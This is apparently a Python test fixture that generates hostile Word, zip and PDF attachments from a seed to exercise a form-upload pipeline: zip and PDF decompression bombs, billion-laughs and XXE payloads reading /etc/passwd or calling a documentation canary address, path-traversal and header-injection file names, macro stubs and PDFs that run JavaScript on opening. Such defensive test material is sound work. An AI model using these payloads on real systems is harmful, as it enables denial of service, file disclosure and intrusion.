"""Files made to harm whoever opens them, from a seed: by kind, as name, declared content type and bytes."""

import io
import random
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from adapters.documents.form_out import blank_form
from panel.ports import Attachment
from tests.layouts.mails import pdf_of, text_field
from tests.unit.documents.forms import KEPT, PROFILE, unzipped, zipped

FORM = blank_form(PROFILE, KEPT)
PARTS = unzipped(FORM)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
MAIN = "word/document.xml"
REACHES_OUT = "http://198.51.100.7/canary"
"""An address of RFC 5737 that nobody has."""


def hostile(seed: int) -> Attachment:
    """One file; the kinds take turns."""
    chance = random.Random(seed)
    name, make = KINDS[seed % len(KINDS)]
    content = make(chance)
    named = chance.choice(NAMES) if chance.random() < 0.3 else name
    return Attachment(named, WORD if named.endswith(".docx") else "application/octet-stream", content)


NAMES = (
    "../../../../canary.docx",
    "..\\..\\windows\\canary.docx",
    "/etc/cron.d/canary.docx",
    "con.docx",
    "form\u202excod.exe.docx",
    "a" * 300 + ".docx",
    "form.docx\x00.exe",
    "form\r\nBcc: x@y.example.docx",
    "C:canary.docx",
    ".docx",
)


def _body(content: bytes) -> bytes:
    return zipped(PARTS | {MAIN: content})


def _bomb(chance: random.Random) -> bytes:
    return _big(chance.choice((9, 16, 40)), in_picture=chance.random() < 0.5)


@cache
def _big(megabytes: int, *, in_picture: bool) -> bytes:
    size = megabytes * 1024 * 1024
    return zipped(PARTS | {"word/a.bin": bytes(size)}) if in_picture else _body(b"<x>" + b" " * size + b"</x>")


def _bomb_that_lies(chance: random.Random) -> bytes:
    """The directory says that the part is small."""
    content = bytearray(_big(chance.choice((9, 16)), in_picture=False))
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        content[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(content)


def _nested_zips(chance: random.Random) -> bytes:
    return _zips(chance.randint(3, 12))


@cache
def _zips(levels: int) -> bytes:
    inner = b"A" * 1024 * 1024 if levels == 1 else _zips(levels - 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for copy in range(4):
            archive.writestr(f"{levels}-{copy}.docx", inner)
    return out.getvalue()


def _entities(chance: random.Random) -> bytes:
    depth = chance.randint(3, 12)
    names = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth))
    text = f'<!DOCTYPE x [<!ENTITY e0 "ha">{names}]><x>&e{depth - 1};</x>'
    coding = chance.choice(("utf-8", "utf-16", "utf-32"))
    return _body(f'<?xml version="1.0" encoding="{coding}"?>{text}'.encode(coding))


def _reaching(chance: random.Random) -> bytes:
    wanted = chance.choice(("file:///etc/passwd", REACHES_OUT, "\\\\198.51.100.7\\share\\x"))
    doctypes = (f'<!DOCTYPE x SYSTEM "{wanted}"><x/>', f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{wanted}"> %p;]><x/>')
    entity = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{wanted}">]><x>&f;</x>'
    return _body(chance.choice((*doctypes, entity)).encode())


def _external(chance: random.Random) -> bytes:
    kind = chance.choice(("attachedTemplate", "image", "oleObject", "frame", "hyperlink"))
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{REACHES_OUT}" '
        'TargetMode="External"/></Relationships>'
    )
    name = chance.choice(("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "_rels/.rels"))
    return zipped(PARTS | {name: rels.encode()})


def _macros(chance: random.Random) -> bytes:
    if chance.random() < 0.5:
        return zipped(PARTS | {chance.choice(("word/vbaProject.bin", "word/VBAPROJECT.BIN")): b"\xd0\xcf"})
    locked = "EncryptedPackage".encode("utf-16-le") * chance.randint(0, 1)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + locked


def _truncated(chance: random.Random) -> bytes:
    content = chance.choice((FORM, _pdf(chance)))
    return content[: chance.randrange(1, len(content))]


def _flipped(chance: random.Random) -> bytes:
    content = bytearray(chance.choice((FORM, _pdf(chance))))
    for _ in range(chance.randint(1, 40)):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return bytes(content)


def _noise(chance: random.Random) -> bytes:
    begins = chance.choice((b"", b"PK\x03\x04", b"%PDF-1.7\n", b"\xd0\xcf\x11\xe0"))
    return begins + chance.randbytes(chance.randint(1, 50_000))


def _polyglot(chance: random.Random) -> bytes:
    first, second = chance.sample((FORM, _pdf(chance), b"GIF89a" + bytes(40), b"<html><script>1</script></html>"), 2)
    return first + second


def _members_that_climb(chance: random.Random) -> bytes:
    name = chance.choice(("../../../canary", "/canary", "..\\..\\canary", "word/../../../canary"))
    return zipped(PARTS | {name: b"canary"})


def _many_entries(chance: random.Random) -> bytes:
    return _entries(chance.choice((1100, 4000)))


@cache
def _entries(count: int) -> bytes:
    return zipped(PARTS | {f"word/media/{n}": b"" for n in range(count)})


def _deep(chance: random.Random) -> bytes:
    levels = chance.choice((13, 60, 80, 1000))
    opened, closed = "<w:tbl><w:tr><w:tc>" * levels, "</w:tc></w:tr></w:tbl>" * levels
    return _document(f"{opened}<w:p><w:r><w:t>x</w:t></w:r></w:p>{closed}")


def _long_lines(chance: random.Random) -> bytes:
    text = chance.choice(("(" * 200_000, "Initials: " * 40_000, "☒ Yes " * 80_000, "x " * 200_000, "1." * 200_000))
    asked = ("Initials", "Date of birth", "Change of school?", "Cost a week", "What happened?", "Which needs?")
    rows = "".join(f"<w:tr><w:tc>{_line(label)}</w:tc><w:tc>{_line(text)}</w:tc></w:tr>" for label in asked[2:])
    return _document(f"<w:tbl>{rows}</w:tbl>{''.join(map(_line, asked))}{_line(text)}")


def _line(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _document(inner: str) -> bytes:
    return _body(f"<w:document {W}><w:body>{inner}</w:body></w:document>".encode())


def _pdf(chance: random.Random) -> bytes:
    return pdf_of([text_field(f"initials{n}", "Initials", "AB") for n in range(chance.randint(1, 9))])


def _pdf_that_acts(chance: random.Random) -> bytes:
    """It calls out or runs when it is opened, and its fields go in a circle."""
    action = chance.choice((f"/S/URI/URI({REACHES_OUT})", "/S/JavaScript/JS(app.alert\\(1\\))"))
    objects = (
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>/AcroForm<</Fields[3 0 R]>>>>",
        "<</Type/Pages/Kids[]/Count 0>>",
        "<</FT/Tx/T(initials)/V(AB)/Kids[3 0 R]/Parent 3 0 R>>",
    )
    body = "".join(f"{number} 0 obj{each}endobj " for number, each in enumerate(objects, 1))
    return f"%PDF-1.7\n{body}trailer<</Root 1 0 R>>\n%%EOF".encode()


@cache
def _packed(megabytes: int) -> bytes:
    return zlib.compress(b"1 0 " * megabytes * 256 * 1024)


def _pdf_bomb(chance: random.Random) -> bytes:
    packed = _packed(chance.choice((1, 8, 40)))
    stream = b"/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj\n" % (len(packed), packed)
    first = b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1000000/First 10" + stream
    table = b"5 0 obj<</Type/XRef/Size 9000000/W[1 2 1]/Root 1 0 R" + stream
    return first + table + b"startxref\n%d\n%%%%EOF" % len(first)


Maker = Callable[[random.Random], bytes]
KINDS: tuple[tuple[str, Maker], ...] = (
    ("form.docx", _bomb),
    ("form.docx", _bomb_that_lies),
    ("form.docx", _nested_zips),
    ("form.docx", _entities),
    ("form.docx", _reaching),
    ("form.docx", _external),
    ("form.docm", _macros),
    ("form.doc", _macros),
    ("form.docx", _truncated),
    ("form.pdf", _truncated),
    ("form.docx", _flipped),
    ("form.pdf", _flipped),
    ("form.docx", _noise),
    ("form.pdf", _noise),
    ("form.docx", _polyglot),
    ("form.pdf", _polyglot),
    ("form.docx", _members_that_climb),
    ("form.docx", _many_entries),
    ("form.docx", _deep),
    ("form.docx", _long_lines),
    ("form.pdf", _pdf_that_acts),
    ("form.pdf", _pdf_bomb),
)
